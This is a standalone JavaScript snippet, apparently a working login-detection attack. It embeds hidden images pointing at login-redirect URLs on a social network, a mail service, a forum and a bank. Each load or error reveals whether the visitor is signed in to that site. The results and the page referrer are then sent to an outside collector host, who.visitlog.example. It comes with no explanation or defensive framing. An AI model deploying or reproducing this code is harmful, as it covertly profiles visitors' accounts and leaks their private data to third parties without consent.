var targets = [
  ['netA', 'https://social-a.example/login?next=https%3A%2F%2Fsocial-a.example%2Ffavicon.ico'],
  ['mailB', 'https://mail-b.example/signin?continue=https%3A%2F%2Fmail-b.example%2Flogo_1x.png'],
  ['forumC', 'https://forum-c.example/account/redirect?u=%2Fimg%2Fdot.gif'],
  ['bankD', 'https://bank-d.example/secure/img/arrow.png']
];
var state = {}, wait = targets.length;
function flush() {
  if (--wait) return;
  var q = Object.keys(state).map(function (k) { return k + '=' + state[k]; }).join('&');
  new Image().src = 'https://who.visitlog.example/s.gif?' + q + '&r=' + escape(document.referrer);
}
for (var i = 0; i < targets.length; i++) (function (t) {
  var im = document.createElement('img');
  im.style.display = 'none';
  im.onload = function () { state[t[0]] = 1; flush(); };
  im.onerror = function () { state[t[0]] = 0; flush(); };
  im.src = t[1];
  document.body.appendChild(im);
})(targets[i]);
